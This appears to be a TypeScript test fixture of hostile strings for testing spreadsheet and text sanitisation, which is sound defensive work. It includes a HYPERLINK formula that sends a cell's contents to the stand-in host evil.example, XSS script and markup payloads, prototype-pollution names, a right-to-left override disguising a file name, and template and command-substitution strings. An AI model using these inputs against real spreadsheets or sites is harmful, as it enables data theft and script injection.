/** Texts that people, programs and attackers put into spreadsheets; each with a name for the test. */
export const hostileTexts: readonly (readonly [name: string, text: string])[] = [
  ["a formula", '=HYPERLINK("https://evil.example/?"&A1,"click")'],
  ["a plus that starts a formula", "+44 20 7946 0000"],
  ["a minus that starts a formula", "-2+3"],
  ["an at sign that starts a formula", "@SUM(A1:A9)"],
  ["a tab before a formula", "\t=1+1"],
  ["an apostrophe", "'tis O'Brien's"],
  ["markup", '<img src=x onerror="alert(1)"><b>Bold</b>'],
  ["a script", "</script><script>alert(2)</script><?= 1 ?>"],
  ["control characters", "Ada\u0000\u0007\u001b[2J\u0085Lovelace"],
  ["50,000 characters", "x".repeat(50_000)],
  ["the name of a property", "__proto__"],
  ["the name of another property", "constructor"],
  ["text that turns round", "Ada \u202Excod.exe\u2066 Lovelace"],
  ["half a character", "Ada \uD83C Lovelace \uDF93"],
  ["a template", "${alert(3)} {{7*7}} `id`"],
];
